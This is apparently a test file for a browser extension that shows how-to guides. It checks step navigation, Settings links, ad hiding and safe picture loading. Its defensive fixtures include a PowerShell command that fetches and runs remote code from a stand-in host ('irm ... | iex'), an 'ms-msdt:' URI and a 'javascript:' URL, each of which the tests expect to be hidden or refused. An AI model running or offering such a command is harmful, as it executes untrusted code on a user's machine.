import { render } from 'preact';
import { act } from 'preact/test-utils';
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { userEvent } from 'vitest/browser';
import { GuideView } from '../../../components/guide/GuideView.tsx';
import type { GuideState } from '../../../components/guide/state.ts';
import { samples } from './support/guide-samples.ts';
import { guideServices, guideState } from './support/guide-state.ts';
import '../../../components/guide/guide.css';

vi.mock('wxt/browser', () => import('./support/browser.ts'));

const { linking, methods } = samples;
let root: HTMLElement;

beforeEach(() => {
  root = document.createElement('div');
  root.id = 'app';
  root.style.blockSize = '800px';
  document.body.append(root);
});

afterEach((): void => {
  render(null, root);
  root.remove();
  vi.useRealTimers();
});

function show(state: GuideState = guideState(linking), services = guideServices()) {
  act(() => render(<GuideView state={state} services={services} />, root));
  return services.actions;
}

const byText = (selector: string, text: string) =>
  [...root.querySelectorAll<HTMLElement>(selector)].filter((element) => element.textContent.includes(text));
const button = (text: string) =>
  [...root.querySelectorAll<HTMLElement>('button, [role^=menuitem]')].find(
    (element) => (element.ariaLabel ?? element.textContent) === text,
  ) as HTMLElement;
const stepOf = (text: string) => byText('.step-own', text)[0] as HTMLElement;
const tickOf = (text: string) => stepOf(text).querySelector('input') as HTMLInputElement;
const idOf = (text: string) => stepOf(text).dataset.step as string;
const click = (element: HTMLElement) => act(() => element.click());

describe('steps', () => {
  test('a tick is a checkbox that is named by its step', () => {
    const actions = show();
    const tick = tickOf('Click Accounts');
    expect(document.getElementById(tick.getAttribute('aria-labelledby') ?? '')?.textContent).toBe(
      'Click Accounts.',
    );
    click(tick);
    expect(actions.tick).toHaveBeenCalledWith(idOf('Click Accounts'), true);
  });

  test('the first undone step is the current one', () => {
    show();
    const first = idOf('Open the Settings app');
    show(guideState(linking, { done: [first] }));
    expect(root.querySelector('[aria-current=step]')?.textContent).toContain('Click Accounts');
  });

  test('pointing lights up the article, focus scrolls it too, leaving puts the light out', () => {
    const actions = show();
    const own = stepOf('Click Accounts');
    own.dispatchEvent(new MouseEvent('mouseenter'));
    expect(actions.point).toHaveBeenLastCalledWith(own.dataset.step, false);
    own.dispatchEvent(new MouseEvent('mouseleave'));
    expect(actions.point).toHaveBeenLastCalledWith(null, false);
    tickOf('Click Accounts').focus();
    expect(actions.point).toHaveBeenLastCalledWith(own.dataset.step, true);
  });

  test('moving the focus within a step does not move the article again', () => {
    const actions = show();
    tickOf('Click Your info').focus();
    const calls = actions.point.mock.calls.length;
    stepOf('Click Your info').querySelector('a')?.focus();
    expect(actions.point.mock.calls.length).toBe(calls);
  });

  test('a click in the article unfolds the procedure and brings the focus to the step', async () => {
    show();
    const step = idOf('Open Activation');
    const [, check] = linking.procedures;
    const folded = guideState(linking, { folded: [check?.id ?? ''] }, { selected: { step } });
    const actions = show(folded);
    expect(actions.fold).toHaveBeenCalledWith(check?.id, false);
    show(guideState(linking, {}, { selected: { step } }));
    await expect.poll(() => document.activeElement).toBe(tickOf('Open Activation'));
  });

  test('a click in the article brings up the method that holds the step', () => {
    const [, second] = methods.procedures;
    const step = second?.steps[0]?.id ?? '';
    const actions = show(guideState(methods, {}, { selected: { step } }));
    expect(actions.choose).toHaveBeenCalledWith([second?.id], expect.not.arrayContaining([second?.id]));
  });

  test('keys work in a step and nowhere else', async () => {
    const actions = show();
    tickOf('Click Accounts').focus();
    await userEvent.keyboard('j');
    expect(document.activeElement).toBe(tickOf('Click Your info'));
    await userEvent.keyboard('k');
    expect(document.activeElement).toBe(tickOf('Click Accounts'));
    await userEvent.keyboard('x');
    expect(actions.tick).toHaveBeenCalledWith(idOf('Click Accounts'), true);
    await userEvent.keyboard('s');
    expect(actions.save).toHaveBeenCalledWith({ type: 'step', step: idOf('Click Accounts') });
    actions.tick.mockClear();
    button('Close').focus();
    await userEvent.keyboard('x');
    expect(actions.tick).not.toHaveBeenCalled();
  });
});

describe('links to Settings', () => {
  test('lead to the catalogued address from the top window, with the way beside them', () => {
    show();
    const link = stepOf('Click Your info').querySelector('a');
    expect(link?.getAttribute('href')).toBe('ms-settings:yourinfo');
    expect(link?.target).toBe('_top');
    expect(stepOf('Click Your info').textContent).toContain('Settings › yourinfo');
  });

  test('an address that the catalogue does not have gets none', () => {
    const wrong = structuredClone(linking);
    for (const { references } of wrong.procedures.flatMap(({ steps }) => steps)) {
      for (const reference of references) reference.uri = 'ms-msdt:/id';
    }
    show(guideState(wrong));
    expect(root.querySelectorAll('a[href]')).toHaveLength(0);
  });

  test('a click is asked about, and stopped when the answer is no', () => {
    const actions = show();
    actions.mayLaunch.mockReturnValue(false);
    const event = new MouseEvent('click', { bubbles: true, cancelable: true });
    stepOf('Click Your info').querySelector('a')?.dispatchEvent(event);
    expect(actions.mayLaunch).toHaveBeenCalledWith('ms-settings:yourinfo');
    expect(event.defaultPrevented).toBe(true);
  });

  test.each([
    ['keeps', true, true],
    ['loses', false, false],
  ])('a page that %s the focus explains the question (%s)', (_, focused, explained) => {
    vi.useFakeTimers();
    vi.spyOn(document, 'hasFocus').mockReturnValue(true);
    const actions = show();
    actions.mayLaunch.mockReturnValue(true);
    const link = stepOf('Click Your info').querySelector('a');
    link?.addEventListener('click', (event) => event.preventDefault());
    act(() => link?.click());
    if (!focused) dispatchEvent(new Event('blur'));
    act(() => void vi.advanceTimersByTime(3000));
    expect(stepOf('Click Your info').textContent.includes('choose Open')).toBe(explained);
  });

  test('where there is no Windows, the way can be copied instead', () => {
    const actions = show(guideState(linking), guideServices({ canOpen: false }));
    expect(root.querySelectorAll('a[href]')).toHaveLength(0);
    click(stepOf('Click Your info').querySelector('button[aria-label="Copy the path"]') as HTMLElement);
    expect(actions.copy).toHaveBeenCalledWith('Settings › yourinfo');
  });
});

describe('dangers', () => {
  const third = methods.procedures[2];
  const chosen = guideState(methods, { chosen: [third?.id ?? ''] });

  test('a dangerous command is neither shown nor copied before a second act', () => {
    const actions = show(chosen);
    expect(root.querySelector('main .steps')?.textContent).not.toContain('iex');
    expect(button('Copy the command')).toBeUndefined();
    click(button('Show anyway'));
    click(button('Copy the command'));
    expect(actions.copy).toHaveBeenCalledWith('irm https://activate.example/go | iex');
  });

  test('the copy key does not reach it either', async () => {
    const actions = show(chosen);
    tickOf('Paste').focus();
    await userEvent.keyboard('c');
    expect(actions.copy).not.toHaveBeenCalled();
  });

  test('warnings of the page are at the top, those of a step at the step', () => {
    show(chosen);
    expect(root.querySelector('.page-risks')?.textContent).toContain('telephone number');
    expect(root.querySelector('.page-risks')?.textContent).not.toContain('downloads a program');
    expect(stepOf('Paste').textContent).toContain('downloads a program');
    click(button('Show the step'));
    expect(document.activeElement).toBe(tickOf('Paste'));
  });

  test('a method that holds a danger says so before it is chosen', () => {
    show(guideState(methods));
    expect(byText('.method', 'Method 3')[0]?.textContent).toContain('Danger');
    expect(byText('.method', 'Method 2')[0]?.textContent).not.toContain('Danger');
  });
});

describe('pictures', () => {
  test('nothing is fetched before the reader asks, and then without a referrer', () => {
    show();
    expect(root.querySelector('img')).toBeNull();
    click(button('Show picture'));
    const image = root.querySelector('img');
    expect(image?.referrerPolicy).toBe('no-referrer');
    expect(image?.alt).toBe('The Activation page');
    expect(root.querySelector('figcaption')?.textContent).toBe('From pictures.example');
  });

  test.each(['javascript:alert(1)', 'data:image/png;base64,AAAA', 'chrome-extension://x/y.png', 'nonsense'])(
    '%s is no picture',
    (url) => {
      const wrong = structuredClone(linking);
      for (const { pictures } of wrong.procedures.flatMap(({ steps }) => steps))
        for (const one of pictures) one.url = url;
      show(guideState(wrong));
      expect(button('Show picture')).toBeUndefined();
    },
  );
});

describe('around the steps', () => {
  test('ads are listed with their reasons and shown one by one', () => {
    const actions = show();
    click(button('show'));
    expect(root.querySelector('.ads')?.textContent).toContain('Advertising slot · sidebar-ads');
    click(button('Show this block: Speed up your PC today with one click'));
    expect(actions.setAds).toHaveBeenCalledWith(0, false);
    click(button('Show all'));
    expect(actions.setAds).toHaveBeenCalledWith('all', false);
  });

  test('a method is chosen in place of the others', () => {
    const actions = show(guideState(methods));
    click(byText('.method', 'Method 2')[0]?.querySelector('input') as HTMLElement);
    const [first, second, third] = methods.procedures.map(({ id }) => id);
    expect(actions.choose).toHaveBeenCalledWith([second], [first, third]);
  });

  test('the menu is worked by keys and gives the focus back', async () => {
    const actions = show();
    button('More').focus();
    await userEvent.keyboard('{Enter}');
    expect(document.activeElement?.textContent).toBe('Open in a tab of its own');
    await userEvent.keyboard('p');
    expect(document.activeElement?.textContent).toBe('Put the page back as it was');
    await userEvent.keyboard('{Enter}');
    expect(actions.restore).toHaveBeenCalledOnce();
    expect(document.activeElement).toBe(button('More'));
    await userEvent.keyboard('{Enter}{ArrowUp}');
    expect(document.activeElement?.textContent).toBe('Options');
    await userEvent.keyboard('{Escape}');
    expect(root.querySelector('[role=menu]')).toBeNull();
  });

  test('the shortcuts show the real binding', () => {
    show(guideState(linking, {}, { shortcut: 'Ctrl+Shift+9' }));
    click(root.querySelector('.shortcut') as HTMLElement);
    expect(root.querySelector('dialog')?.textContent).toContain('Ctrl+Shift+9');
  });

  test('what is said is announced, and shown unless the eye has seen it', () => {
    show(guideState(linking, {}, { saying: { kind: 'quiet', text: '1 of 2' } }));
    const region = root.querySelector('.visually-hidden[role=status]');
    expect(region?.textContent).toBe('1 of 2');
    show(guideState(linking, {}, { saying: { kind: 'problem', text: 'Not saved' } }));
    expect(root.querySelector('.saying-problem')?.textContent).toBe('Not saved');
  });

  test('a finished guide tells how to see whether it worked', () => {
    const all = linking.procedures.flatMap(({ steps }) => steps.flatMap((step) => [step, ...step.substeps]));
    show(guideState(linking, { done: all.map(({ id }) => id) }));
    expect(root.textContent).toContain('All steps are done');
  });

  test('a page without steps says so', () => {
    show(guideState({ ...linking, procedures: [] }, {}, { recognised: false }));
    expect(root.querySelector('main')?.textContent).toContain('No steps were found');
  });
});
